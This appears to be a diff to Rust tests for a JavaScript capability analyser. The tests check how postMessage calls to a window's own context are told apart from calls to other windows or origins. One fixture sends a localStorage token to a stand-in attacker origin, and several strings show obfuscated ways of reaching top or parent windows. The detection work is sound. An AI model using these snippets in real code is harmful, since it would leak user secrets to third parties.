@@ -358,9 +358,56 @@ fn what_a_socket_sends_is_compared() {
 fn a_message_to_an_origin_that_nobody_can_read_may_go_to_any() {
     says("parent.postMessage(d, x)", Capability::PostMessageAny);
     says("f = (d, e) => parent.postMessage(d, { targetOrigin: e.data.to })", Capability::PostMessageAny);
-    for known in ["w.postMessage(d, [p])", "w.postMessage(d)", "w.postMessage(d, 'https://a.test')"] {
+    for known in ["w.postMessage(d, [p])", "w.postMessage(d)", "w.postMessage(d, '/')"] {
         assert_eq!(added(known).facts, [], "{known}");
     }
+}
+
+#[test]
+fn a_message_to_a_window_that_may_be_another_is_told_from_one_to_its_own() {
+    let own = [
+        "window.postMessage(d, '*')",
+        "(function (w) { w.postMessage(d, '*') })(window)",
+        "var w = typeof self !== 'undefined' ? self : global; w.postMessage(d, '*')",
+        "const w = 'undefined' != typeof globalThis ? globalThis : 'u' > typeof window ? window : global; w.postMessage(d, '*')",
+        "var w = function () { if (typeof globalThis !== 'undefined') return globalThis; return typeof self !== 'undefined' ? self \
+         : global }(); w.postMessage(d, '*')",
+    ];
+    for own in own {
+        says(own, Capability::PostMessageOwn);
+        let facts = added(own).facts;
+        assert!(facts.iter().all(|fact| fact.capability != Capability::PostMessageAny), "{own}: {facts:?}");
+    }
+    for other in [
+        "top.postMessage(d, '*')",
+        "window.parent.postMessage(d, '*')",
+        "(function (window) { window.postMessage(d, '*') })(top)",
+        "(function (window) { window.postMessage(d, '*') })(x ? window : opener)",
+        "self = top; self.postMessage(d, '*')",
+        "window['se' + 'lf'] = top; self.postMessage(d, '*')",
+        "var w = window; w = parent; w.postMessage(d, '*')",
+        "var w = typeof self !== 'function' ? self : top; w.postMessage(d, '*')",
+        "var w = function () { if (x) return window; return parent }(); w.postMessage(d, '*')",
+        "var w = function () { if (x) return window; return function () { return parent }() }(); w.postMessage(d, '*')",
+        "window.postMessage.call(top, d, '*')",
+        "(0, window).top.postMessage(d, '*')",
+        "global.postMessage(d, '*')",
+    ] {
+        says(other, Capability::PostMessageAny);
+    }
+}
+
+#[test]
+fn a_message_to_an_origin_that_was_not_named_before_goes_there() {
+    let new = added("w.postMessage(localStorage.getItem('token'), 'https://in.evil.test')");
+    assert!(new.facts.iter().any(|fact| fact.capability == Capability::PostMessage), "{:?}", new.facts);
+    assert_eq!(new.hosts[0].reached_by, Some(Capability::PostMessage));
+    // The address in what is sent is no origin.
+    let sent = added("w.postMessage('https://in.evil.test', '/')");
+    assert_eq!((sent.facts, sent.hosts[0].reached_by), (Vec::new(), None));
+    let (old, new) =
+        (b"show('https://a.test/x')", b"show('https://a.test/x'); w.postMessage(d, 'https://a.test')");
+    assert_eq!(changed(old, new).facts, []);
 }
 
 #[test]
